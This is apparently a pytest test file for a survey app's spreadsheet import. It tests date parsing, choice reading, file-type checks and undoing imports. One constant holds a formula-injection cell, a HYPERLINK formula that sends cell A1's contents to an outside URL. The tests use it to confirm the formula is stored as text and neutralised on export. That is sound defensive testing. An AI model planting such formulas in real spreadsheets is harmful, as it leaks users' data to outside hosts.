"""Answers from other survey tools: real workbooks, what spreadsheets make of dates and numbers, hostile cells, undoing."""

from datetime import UTC, date, datetime
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import timezone

from extramile.core.vocabulary import InputError
from extramile.web.audit.models import Event
from extramile.web.voices import coding, importing
from extramile.web.voices.models import Answer, Import, Response, Survey
from tests.integration.voices.conftest import Area, make_survey
from tests.integration.voices.workbook import workbook

HEADINGS = [
    "Day of the answer",
    "Does your child have an education health and care plan?",
    "How satisfied are you with the help your child gets?",
    "What did you wait for in the last year?",
    "What should be better?",
]
FORMULA = '=HYPERLINK("https://example.org/?x="&A1,"Click")'


def hold(area: Area, survey: Survey, content: bytes) -> Import:
    held = importing.hold_table(scope=area.lead, survey=survey, content=content, name="The file")
    importing.map_columns(scope=area.lead, held=held, mapping=held.mapping)
    return held


def answers_of(survey: Survey) -> list[dict[str, Any]]:
    return [
        {each.question.words: each.text or each.value for each in response.answers.select_related("question")}
        | {"day": response.answered_on}
        for response in survey.responses.order_by("answered_on")
    ]


def test_a_file_that_is_much_too_large_is_not_taken_for_none(area: Area, settings: Any) -> None:
    survey, settings.FILE_UPLOAD_MAX_MEMORY_SIZE = make_survey(area.lead), 1000
    sent = {"table": SimpleUploadedFile("answers.csv", b"a" * 2000)}
    answer = area.client("lead").post(f"/p/wexmoor/voices/surveys/{survey.pk}/import/", sent)
    assert answer.status_code == 422
    assert "The file is larger than 20 MB" in answer.content.decode()
    assert "Choose a CSV" not in answer.content.decode()


def test_a_real_workbook_with_dates_numbers_and_a_merged_title(area: Area) -> None:
    survey = make_survey(area.lead)
    content = workbook(
        [
            ["Families survey, exported", None, None, None, None],
            [],
            HEADINGS,
            [date(2026, 3, 30), "Yes", 4, "Occupational therapy;Short breaks;", "Faster <b>letters</b> & news"],
            [datetime(2026, 3, 31, 14, 5, tzinfo=UTC), "Not sure", 2.0, "A school place", FORMULA],
            ["1 April 2026", "no", "Satisfied", "", None],
        ],
        merged=["A1:E1"],
    )
    held = hold(area, survey, content)
    page = area.client("lead").get(f"/p/wexmoor/voices/imports/{held.pk}/").content.decode()

    assert held.headings == HEADINGS
    assert "3 of 3 rows can be read" in page
    assert "Row 4" in page, "as a person counts the rows"
    assert "&lt;b&gt;letters&lt;/b&gt;" in page
    importing.import_rows(scope=area.lead, held=held)
    first, second, third = answers_of(survey)
    assert first == {
        "day": date(2026, 3, 30),
        HEADINGS[1]: 0,
        HEADINGS[2]: 4,
        HEADINGS[3]: [1, 6],
        HEADINGS[4]: "Faster <b>letters</b> & news",
    }
    assert (second["day"], second[HEADINGS[2]]) == (date(2026, 3, 31), 2)
    assert (third["day"], third[HEADINGS[2]], third[HEADINGS[1]]) == (date(2026, 4, 1), 4, 3)
    assert {each.way for each in Response.objects.all()} == {"import"}


def test_a_formula_that_somebody_typed_stays_a_text_and_is_harmless_when_taken_away(area: Area) -> None:
    survey = make_survey(area.lead)
    importing.import_rows(
        scope=area.lead, held=hold(area, survey, workbook([HEADINGS, [None, "Yes", 1, None, FORMULA]]))
    )
    taken = area.client("lead").post(f"/p/wexmoor/voices/surveys/{survey.pk}/texts.csv").content.decode()

    assert Answer.objects.filter(text=FORMULA).exists()
    assert "'=HYPERLINK" in taken
    assert Event.objects.filter(verb="what people wrote taken away").count() == 1


@pytest.mark.parametrize(
    ("cell", "day"),
    [
        ("2027-03-31", date(2027, 3, 31)),
        ("2027-03-31 14:05:11", date(2027, 3, 31)),
        ("2027-03-31T14:05:11Z", date(2027, 3, 31)),
        ("31/03/2027 9:01", date(2027, 3, 31)),
        ("31 March 2027", date(2027, 3, 31)),
        ("03/31/2027", None),
        ("46112", None),
        ("soon", None),
    ],
)
def test_days_as_tools_write_them(cell: str, day: date | None) -> None:
    assert importing.read_day(cell) == day


def test_several_choices_may_be_separated_by_commas_that_stand_in_choices_too(area: Area) -> None:
    survey = make_survey(area.lead, template="children")
    many = survey.questions.get(kind="many")
    longest = next(each for each in many.options if "," in each)

    assert importing.read_choices(many, f"{longest}, my friends, More time") == (["4", "5", "2"], "")
    assert importing.read_choices(many, f"More time\n{longest}") == (["2", "4"], "")
    assert importing.read_choices(many, "More time, the moon") == (["2", "6"], "the moon")
    many.other = ""
    assert importing.read_choices(many, "More time, the moon") == ([], "")


def test_an_import_is_undone_and_can_be_made_again(area: Area) -> None:
    survey = make_survey(area.lead)
    content = workbook([HEADINGS, [None, "Yes", 1, None, "Time"]])
    held = hold(area, survey, content)
    address = f"/p/wexmoor/voices/imports/{held.pk}/"
    lead = area.client("lead")
    lead.post(address, {"do": "import"})
    assert "Undo this import" in lead.get(address).content.decode()
    assert area.client("contributor").post(address, {"do": "undo"}).status_code == 403

    assert lead.post(address, {"do": "undo"}).status_code == 302
    assert not Response.objects.exists()
    assert "was undone" in lead.get(address).content.decode()
    assert lead.post(address, {"do": "undo"}).status_code == 422
    assert lead.post(address, {"do": "drop"}).status_code == 302
    importing.import_rows(scope=area.lead, held=hold(area, survey, content))
    assert Response.objects.count() == 1


def test_what_was_coded_is_not_undone(area: Area) -> None:
    survey = make_survey(area.lead)
    held = hold(area, survey, workbook([HEADINGS, [None, "Yes", 1, None, "Time"]]))
    importing.import_rows(scope=area.lead, held=held)
    coding.code(scope=area.lead, thing=Answer.objects.exclude(text="").get(), codes=[])

    with pytest.raises(InputError, match="have been coded"):
        importing.undo_import(scope=area.lead, held=held)


@pytest.mark.parametrize(
    "content", [b"PK\x03\x04 nothing", b"\xd0\xcf\x11\xe0 an old .xls", b"%PDF-1.7", b"\x89PNG\r\n\0"]
)
def test_what_is_no_table_is_told_at_the_field(area: Area, content: bytes) -> None:
    survey = make_survey(area.lead)
    sent = {"table": SimpleUploadedFile("t.xlsx", content)}
    answer = area.client("lead").post(f"/p/wexmoor/voices/surveys/{survey.pk}/import/", sent)

    assert answer.status_code == 422
    assert 'href="#id_table"' in answer.content.decode()
    assert not Import.objects.exists()


def test_a_day_that_has_not_come_is_told(area: Area) -> None:
    survey = make_survey(area.lead)
    late = date(timezone.localdate().year + 2, 1, 1)
    held = hold(area, survey, workbook([HEADINGS, [late, "Yes", 1, None, None]]))

    with pytest.raises(InputError, match="nothing was imported"):
        importing.import_rows(scope=area.lead, held=held)
